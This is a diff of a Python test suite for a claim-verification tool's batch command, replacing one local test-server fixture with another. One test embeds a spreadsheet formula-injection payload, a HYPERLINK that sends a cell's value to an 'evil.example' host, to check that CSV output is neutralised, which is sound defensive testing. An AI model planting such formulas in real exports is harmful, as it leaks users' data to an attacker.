@@ -22,9 +22,8 @@ from guardrail import Settings, Verifier
 from guardrail.apps.batch import arun_batch_file, checkpoint_path, lock_path, read_rows
 from guardrail.apps.cli import app
 from guardrail.store import AuditStore
-from tests.fakes import HashEmbedder, OverlapJudge
+from guardrail.testing import HashEmbedder, LoopbackSite, OverlapJudge, Route
 from tests.fixtures.llm_server import FakeLLMServer, Received, Reply, error_reply
-from tests.fixtures.server import FixtureServer, Route
 from tests.test_batch import boiling_model
 
 runner = CliRunner()
@@ -55,7 +54,7 @@ def fake_verifier(**settings: object) -> Verifier:
 # -- batch input ----------------------------------------------------------------------------------
 
 
-def test_a_deeply_nested_line_is_a_bad_line_not_a_traceback(tmp_path: Path, pages: FixtureServer) -> None:
+def test_a_deeply_nested_line_is_a_bad_line_not_a_traceback(tmp_path: Path, pages: LoopbackSite) -> None:
     path = write_jsonl(tmp_path / "in.jsonl", [{"id": 1, "claim": CLAIM, "urls": [pages.url("/boiling")]}])
     with path.open("a", encoding="utf-8") as fh:
         fh.write('{"id": 2, "claim": ' + "[" * 100_000 + "]" * 100_000 + "}\n")
@@ -74,7 +73,7 @@ def test_line_and_paragraph_separators_inside_a_row_do_not_split_it(tmp_path: Pa
     assert read[0].claim == claim
 
 
-async def test_a_row_over_the_size_limit_fails_alone_in_bounded_memory(tmp_path: Path, pages: FixtureServer) -> None:
+async def test_a_row_over_the_size_limit_fails_alone_in_bounded_memory(tmp_path: Path, pages: LoopbackSite) -> None:
     huge = "Water boils at 100 degrees Celsius at sea level [1]. " * 200_000  # 10.6 MB
     path = write_jsonl(
         tmp_path / "in.jsonl",
@@ -106,7 +105,7 @@ def llm() -> Iterator[FakeLLMServer]:
 
 
 def test_rows_judged_by_a_judge_that_died_fail_and_are_retried(
-    tmp_path: Path, pages: FixtureServer, llm: FakeLLMServer
+    tmp_path: Path, pages: LoopbackSite, llm: FakeLLMServer
 ) -> None:
     rows: list[str | dict[str, object]] = [
         {"id": f"r{n}", "claim": CLAIM, "urls": [pages.url("/boiling")]} for n in range(4)
@@ -140,7 +139,7 @@ def test_rows_judged_by_a_judge_that_died_fail_and_are_retried(
 # -- outputs ----------------------------------------------------------------------------------------
 
 
-def test_an_unwritable_out_is_refused_before_any_work(tmp_path: Path, pages: FixtureServer) -> None:
+def test_an_unwritable_out_is_refused_before_any_work(tmp_path: Path, pages: LoopbackSite) -> None:
     path = write_jsonl(tmp_path / "in.jsonl", [{"id": 1, "claim": CLAIM, "urls": [pages.url("/boiling")]}])
     blocker = tmp_path / "a-file"
     blocker.write_text("not a folder")
@@ -153,7 +152,7 @@ def test_an_unwritable_out_is_refused_before_any_work(tmp_path: Path, pages: Fix
 
 
 def test_a_second_run_on_the_same_out_stops_naming_the_lock(tmp_path: Path) -> None:
-    with FixtureServer({"/slow": Route(status=410, body="gone", delay=30.0)}) as site:
+    with LoopbackSite({"/slow": Route(status=410, body="gone", delay=30.0)}) as site:
         path = write_jsonl(tmp_path / "in.jsonl", [{"id": 1, "claim": CLAIM, "urls": [site.url("/slow")]}])
         out = tmp_path / "r.csv"
         cmd = [sys.executable, "-m", "guardrail.apps.cli", "batch", str(path), "--out", str(out)]
@@ -175,7 +174,7 @@ def test_a_second_run_on_the_same_out_stops_naming_the_lock(tmp_path: Path) -> N
     assert site.hits["/slow"] == 1  # the second run fetched nothing
 
 
-def test_the_lock_is_free_again_after_a_run(tmp_path: Path, pages: FixtureServer) -> None:
+def test_the_lock_is_free_again_after_a_run(tmp_path: Path, pages: LoopbackSite) -> None:
     path = write_jsonl(tmp_path / "in.jsonl", [{"id": 1, "claim": CLAIM, "urls": [pages.url("/gone-410")]}])
     args = ["batch", str(path), "--out", str(tmp_path / "r.csv"), "--allow-private-hosts"]
     assert_clean_exit(runner.invoke(app, args, env=NO_STORES), 0)
@@ -185,7 +184,7 @@ def test_the_lock_is_free_again_after_a_run(tmp_path: Path, pages: FixtureServer
 async def test_csv_cells_never_become_spreadsheet_formulas(tmp_path: Path) -> None:
     hostile = '=HYPERLINK("https://evil.example/?"&A1,"click")'
     page = f"<html><body><article><p>{hostile} says water boils at 100 degrees Celsius.</p></article></body></html>"
-    with FixtureServer({"/hostile": Route(body=page * 3)}) as site:
+    with LoopbackSite({"/hostile": Route(body=page * 3)}) as site:
         url = site.url("/hostile")
         rows: list[str | dict[str, object]] = [
             {
@@ -238,7 +237,7 @@ def test_serve_refuses_a_blank_api_key_naming_the_variable() -> None:
     assert "GUARDRAIL_API_KEY" in result.stderr and "blank" in result.stderr
 
 
-def test_an_out_through_a_symlink_locks_the_file_it_names(tmp_path: Path, pages: FixtureServer) -> None:
+def test_an_out_through_a_symlink_locks_the_file_it_names(tmp_path: Path, pages: LoopbackSite) -> None:
     real = tmp_path / "reports" / "r.csv"
     real.parent.mkdir()
     link = tmp_path / "link.csv"
